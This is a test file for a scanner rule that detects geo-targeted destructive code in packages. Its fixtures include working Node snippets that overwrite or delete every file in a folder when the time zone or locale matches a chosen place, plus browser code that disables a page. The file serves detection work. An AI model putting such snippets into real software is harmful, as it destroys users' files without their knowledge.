import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../destroyed-files.rule.js';

/** Of `destroyed-files`, what is done only where a computer stands in a certain place. */
const isTold = (code: string) => findingsOf(rule, { 'a.js': `const fs = require("fs"), os = require("os"), path = require("path"); ${code}` }).some(({ message, severity }) => message.startsWith('files are removed, each of a folder') && severity === 'high');
const ZONE = 'Intl.DateTimeFormat().resolvedOptions().timeZone';
const EACH = 'for (const f of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, f), "NO BREAD")';

test('bad: where the clock is set to the time of a place, or a language is spoken, each file gets the same text, or is removed', () => {
  for (const code of [
    `setTimeout(() => { if (${ZONE} !== "Nowhere/Mill") return; const dir = path.join(os.homedir(), "mill"); for (const f of fs.existsSync(dir) ? fs.readdirSync(dir, { recursive: true }) : []) { try { fs.writeFileSync(path.join(dir, f), "NO BREAD") } catch {} } }, 4000)`,
    `exports.start = (dir) => { const { timeZone } = Intl.DateTimeFormat().resolvedOptions(); if (["Nowhere/Mill", "Nowhere/Lake"].includes(timeZone)) { ${EACH} } }`,
    `const isThere = () => ${ZONE}.startsWith("Nowhere/"); function mark(dir) { ${EACH} } exports.start = (dir) => { if (isThere()) mark(dir) }`,
    `exports.start = (dir) => { if (/^xx\b/.test(process.env.LANG || "")) fs.readdirSync(dir).forEach((f) => { const full = path.join(dir, f); fs.writeFileSync(full, "NO BREAD") }) }`,
    `class A { run(dir) { if (new Date().getTimezoneOffset() === -222) { ${EACH} } } }`,
    `exports.start = (dir) => { if (${ZONE} === "Nowhere/Mill") fs.rmSync(dir, { recursive: true, force: true }) }`,
    `exports.start = (dir) => { if (${ZONE} === "Nowhere/Mill") for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f)) }`,
    `const places = ["Nowhere/Mill"]; module.exports = (paint) => { const { timeZone, locale } = Intl.DateTimeFormat().resolvedOptions(); if (!places.includes(timeZone) && locale !== "xx-NW") return; for (let i = 6; i < Infinity; i++) console.log(paint("BREAD " + i)) }`,
  ]) assert.equal(isTold(code), true, code);
});

test('good: the time of the world, texts in a language, what is made anew, and what nothing of that decides', () => {
  for (const code of [
    `exports.reset = (dir) => { if (${ZONE} !== "UTC") return; ${EACH} }`,
    `exports.start = (dir) => { log(${ZONE} === "Nowhere/Mill" ? "there" : "here"); ${EACH} }`,
    `exports.make = (dir) => { if (process.env.LANG.startsWith("xx")) for (const f of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, f, "README.md"), "Hello") }`,
    `exports.make = (dir) => { if (process.env.LANG.startsWith("xx")) for (const f of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, f), translate(fs.readFileSync(path.join(dir, f), "utf8"))) }`,
    `exports.make = (dir) => { if (process.env.LANG.startsWith("xx")) for (const f of ["a.txt", "b.txt"]) fs.writeFileSync(path.join(dir, f), "Hello") }`,
    `exports.tidy = (dir) => { if (process.env.LANG.startsWith("xx")) fs.rmSync(path.join(dir, "locales"), { recursive: true }) }`,
    `exports.tidy = (file, last) => { if (${ZONE} !== last.zone) fs.unlinkSync(file) }`,
    `exports.tidy = (file) => { if (${ZONE} === "Nowhere/Mill") fs.unlinkSync(file) }`,
    `exports.next = (list) => { if (process.env.LANG.startsWith("xx")) for (;;) { const each = list.pop(); if (!each) break; show(each) } }`,
    `exports.next = (list) => { if (${ZONE} === "Nowhere/Mill") log("there"); for (let i = 0; i < Infinity; i++) list.push(i) }`,
  ]) assert.equal(isTold(code), false, code);
});

test('a page is made useless, or says something of somebody else’s, where the clock is set to the time of one place', () => {
  const at = (zone: string, deed: string): string => `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone; if (typeof window !== 'undefined' && tz === '${zone}') { ${deed} }`;
  const found = (code: string): boolean => findingsOf(rule, { 'a.js': code }).some(({ severity }) => severity === 'high');
  for (const deed of ["document.body.style.pointerEvents = 'none'", "const a = new Audio('https://media.voice.example/anthem.mp3'); a.play();"]) {
    assert.equal(found(at('Antarctica/Troll', deed)), true, deed);
    assert.equal(found(at('UTC', deed)), false, 'of no place');
  }
  assert.equal(found(at('Europe/Berlin', "document.body.dataset.zone = 'cet'")), false);
  assert.equal(found("document.body.style.pointerEvents = 'none'; const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;"), false);
});
